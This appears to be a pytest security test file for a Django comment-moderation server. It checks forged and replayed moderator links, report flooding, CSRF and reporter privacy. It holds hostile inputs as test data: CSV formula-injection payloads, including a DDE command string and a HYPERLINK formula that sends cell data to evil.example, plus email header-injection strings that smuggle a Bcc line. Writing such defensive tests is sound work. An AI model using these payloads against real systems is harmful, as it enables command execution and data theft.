"""Moderation turned against the site: links of moderators that were forged, kept or caught, reports in masses, and words that
become commands in the mail, the list or the table of somebody who looks after it."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.core import mail, signing
from django.test import Client
from django.utils import timezone

from attacks.doors import standing
from samara.core.comment import State
from samara.core.settings import load
from samara.server import errands, permits
from samara.server.jobs import telling, watch
from samara.server.models import Comment, Decision, Flag, Happening, Membership, Page, Person
from samara.server.permits import Act
from samara.server.store import decisions, people
from server.quarrel import say, someone

pytestmark = pytest.mark.django_db
DO = "/-/mail/do/"
BREAKS = ("\r\n", "\n", "\r", "\u2028", "\x0b", "\x85")
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u200b=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
)  # fmt: skip


@pytest.fixture(autouse=True)
def place(monkeypatch):
    monkeypatch.setenv("SAMARA_SERVER_URL", "https://talk.example/")


@pytest.fixture
def mia(site):
    found = someone("Mia")
    Membership.objects.create(person=found, site=site, role="moderator")
    return found


@pytest.fixture
def waits(site, ada):
    return say(site, "Waits", ada, state=State.WAITING)


def word(act: Act, comment: Comment, person: Person) -> str:
    return permits.issue(act, comment.pk, person.pk, errands.standing(comment))


def refused(k: str) -> bool:
    """Whether neither looking nor pressing does anything."""
    before = standing()
    answers = [Client().get(DO, {"k": k}), Client().post(f"{DO}?k={k}", {"seen": "0"})]
    return {each.status_code for each in answers} == {410} and standing() == before


def report(comment, network: str, person: Person | None = None, **headers):
    browser = Client(REMOTE_ADDR=network)
    if person is not None:
        browser.force_login(person)
    return browser.post(f"/-/comments/{comment.pk}/flag/", {"reason": "spam"}, headers=headers)


# Links


def test_link_is_not_made_by_anybody_else(mia, waits):
    good = word(Act.PUBLISH, waits, mia)
    things = [waits.pk, mia.pk, 0]
    forged = [
        "",
        "x",
        good[:-1] + ("A" if good[-1] != "A" else "B"),
        good.replace(":", ".", 1),
        signing.dumps(["publish", *things]),
        signing.dumps(["publish", *things], salt=permits.SALT, key="another" * 9),
        signing.dumps(["publish", *things[:2]], salt=permits.SALT),
        signing.dumps(["publish", str(waits.pk), mia.pk, 0], salt=permits.SALT),
        signing.dumps(["publish", True, mia.pk, 0], salt=permits.SALT),
        signing.dumps(["rule", *things], salt=permits.SALT),
        permits.issue(Act.NO_COMMENTS, waits.site_id, mia.pk),
        permits.issue(Act.END, waits.pk),
        "A" * 100_000,
    ]
    assert [k for k in forged if not refused(k)] == []
    assert Client().get(DO, {"k": good}).status_code == 200


def test_link_of_one_act_does_no_other(mia, waits):
    """Nor does it sign its holder in, stop mail, or open the dashboard."""
    k = word(Act.SPAM, waits, mia)
    browser = Client()
    browser.post(f"{DO}?k={k}", {"seen": "0", "one": f"published:{waits.pk}", "act": "publish"})
    assert Comment.objects.get(pk=waits.pk).state == "spam"
    assert browser.cookies.get("sessionid") is None
    assert browser.get(f"/-/sites/{waits.site_id}/comments/").status_code == 302
    assert Client().post(f"/-/mail/no/?k={word(Act.PUBLISH, waits, mia)}").status_code == 410


def test_link_about_another_site_is_worth_nothing(site, other, mia):
    """Not even one that this server signed: who presses it has no role there."""
    theirs = other.comments.get(state="waiting")
    assert refused(word(Act.PUBLISH, theirs, mia))
    made = decisions.decide(other, people.owner(), [theirs.pk], State.SPAM)
    assert refused(permits.issue(Act.UNDO, made.pk, mia.pk))
    assert refused(permits.issue(Act.CLOSE, theirs.thread_id, mia.pk, 0))


def test_link_that_was_caught_is_worth_nothing_afterwards(site, mia, waits):
    links = [word(act, waits, mia) for act in permits.ABOUT_COMMENTS]
    Client().post(f"{DO}?k={links[0]}", {"seen": "0"})
    assert [k for k in links if not refused(k)] == []
    undo = permits.issue(Act.UNDO, Decision.objects.get().pk, mia.pk)
    Client().post(f"{DO}?k={undo}", {"seen": "0"})
    assert refused(undo)
    assert [k for k in links if not refused(k)] == []


def test_undo_is_for_who_decided(site, mia, waits):
    made = decisions.decide(site, people.owner(), [waits.pk], State.SPAM)
    assert refused(permits.issue(Act.UNDO, made.pk, mia.pk))


def test_page_of_a_link_is_in_no_frame_no_cache_and_tells_nobody(mia, waits):
    answer = Client().get(DO, {"k": word(Act.PUBLISH, waits, mia)})
    assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"]
    assert "no-store" in answer.headers["Cache-Control"]
    assert answer.headers["Referrer-Policy"] in ("no-referrer", "same-origin")


# Reports


def test_crowd_of_guests_lets_a_comment_wait_and_never_removes_it(site, ada):
    said = say(site, "Unpopular", ada)
    for at in range(40):
        report(said, f"198.51.100.{at}")
    found = Comment.objects.get(pk=said.pk)
    assert (found.state, found.text) == ("waiting", "Unpopular")
    assert Decision.objects.count() == 1
    decisions.decide(site, people.owner(), [said.pk], State.PUBLISHED)
    for at in range(40):
        report(said, f"203.0.113.{at}")
    assert Comment.objects.get(pk=said.pk).state == "published"


def test_one_household_is_one_caller_however_it_spells_itself(site, ada):
    said = say(site, "Words", ada)
    for at in range(9):
        report(said, f"2001:db8::{at:x}")
        report(said, "192.0.2.1", **{"X-Forwarded-For": f"198.51.100.{at}", "X-Real-IP": f"198.51.100.{at}"})
    assert Flag.objects.count() == 2


def test_reports_fill_nobodys_mailbox(site, mia, ada):
    said = say(site, "Words", ada)
    telling.tell(load())
    mail.outbox.clear()
    for at in range(40):
        report(said, f"198.51.100.{at}")
    telling.tell(load())
    assert len([each for each in mail.outbox if each.to == ["mia@example.net"]]) == 1
    assert Happening.objects.filter(kind="flagged").count() == 1


def test_report_in_the_name_of_somebody_who_is_signed_in_needs_the_token(site, ada):
    said, eva = say(site, "Words", ada), someone("Eva")
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(eva)
    for headers in ({}, {"Origin": "https://evil.example"}, {"Origin": "null"}, {"Origin": "http://testserver"}):
        browser.post(f"/-/comments/{said.pk}/flag/", {"reason": "spam"}, headers=headers)
    assert not Flag.objects.exists()
    Client().post(f"/-/comments/{said.pk}/flag/", {"reason": "spam"}, headers={"Origin": "https://evil.example"})
    assert not Flag.objects.exists()


def test_nobody_learns_who_reported(owner, site, ada):
    said, eva = say(site, "Words", ada), someone("Eva Unmistakable")
    report(said, "192.0.2.77", eva)
    Flag.objects.create(comment=said, person=eva, caller="e" * 64, reason="spam")
    for path in ("comments/?state=reported", "log/", "log/decisions.jsonl", "log/decisions.csv"):
        assert "Unmistakable" not in owner.get(f"/-/sites/{site.pk}/{path}").text
    assert "192.0.2.77" not in json.dumps([list(map(str, row)) for row in Flag.objects.values_list()])


# Words that become commands


@pytest.mark.parametrize("line", BREAKS)
def test_no_word_becomes_a_line_in_the_head_of_a_mail(site, mia, ada, line, monkeypatch):
    monkeypatch.setenv("SAMARA_COMMENTS_ALARM", "2")
    evil = f"x{line}Bcc: all@example.net{line}{line}<html>https://evil.example/"
    said = say(site, evil, ada, state=State.WAITING)
    say(site, "More", ada)
    Page.objects.filter(site=site).update(title=evil)
    Comment.objects.update(name=evil[:60])
    Flag.objects.create(comment=said, caller="c" * 64, reason="other", words=evil)
    Happening.objects.create(thread=said.thread, comment=said, kind="flagged")
    assert watch.watch() == 1
    telling.tell(load())
    subjects = {each.subject.split(":")[0] for each in mail.outbox if each.to == ["mia@example.net"]}
    assert subjects >= {"Unusually many comments", "A comment was reported"}
    for message in mail.outbox:
        head = message.message()
        assert (head["Bcc"], head["Cc"], head.get_content_type(), "\n" in message.subject) == (None, None, "text/plain", False)
        assert message.recipients() == message.to
        assert set(re.findall(r"https?://[^\s/]+", message.subject + message.body)) == {"https://talk.example"}


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_word_becomes_a_formula(owner, site, formula):
    mallory = Person.objects.create_user(name=formula)
    said = say(site, "Words", someone(), state=State.WAITING)
    Comment.objects.filter(pk=said.pk).update(why=[["words", 1.0, formula]])
    decisions.decide(site, mallory, [said.pk], State.SPAM)
    text = owner.get(f"/-/sites/{site.pk}/log/decisions.csv").content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert [cell for cell in cells if cell.strip("\u200b \t\r\n")[:1] in set("=+-@＝＋－＠") and cell.strip()] == []
    lines = owner.get(f"/-/sites/{site.pk}/log/decisions.jsonl").content.splitlines()
    assert len([json.loads(each) for each in lines]) == 2


def test_hostile_changes_do_not_break_the_log(owner, site, ada):
    hostile = [[], [["comment", 10**30, "x", "y"]], [["<script>", "k", "", ""]], [["comment", 1, None, None]] * 50]
    for changes in hostile:
        Decision.objects.create(site=site, person=ada, act="spam", changes=changes)
    for path in ("log/", "log/decisions.csv", "log/decisions.jsonl", "comments/"):
        answer = owner.get(f"/-/sites/{site.pk}/{path}")
        assert (answer.status_code, "<script>" in answer.text and path == "log/") == (200, False)


@pytest.mark.parametrize(
    "query",
    ["over=-1", "over=1e9", "over=²", "host=%00", "host=" + "x" * 5_000, "like=99999999999999999999", "order=x", "order=suspicion&after=nan-1",
     "order=suspicion&after=1e999-1", "state=reported&after=x&order=oldest", "person=0", "like=1&host=x&over=50&thread=1"],
)  # fmt: skip
def test_list_survives_nonsense(owner, site, query):
    assert owner.get(f"/-/sites/{site.pk}/comments/?{query}").status_code in (200, 404)


def test_link_is_not_older_than_a_week_even_when_the_role_stands(mia, waits, monkeypatch):
    k = word(Act.PUBLISH, waits, mia)
    later = (timezone.now() + timedelta(days=8)).timestamp()
    monkeypatch.setattr("django.core.signing.time.time", lambda: later)
    assert refused(k)
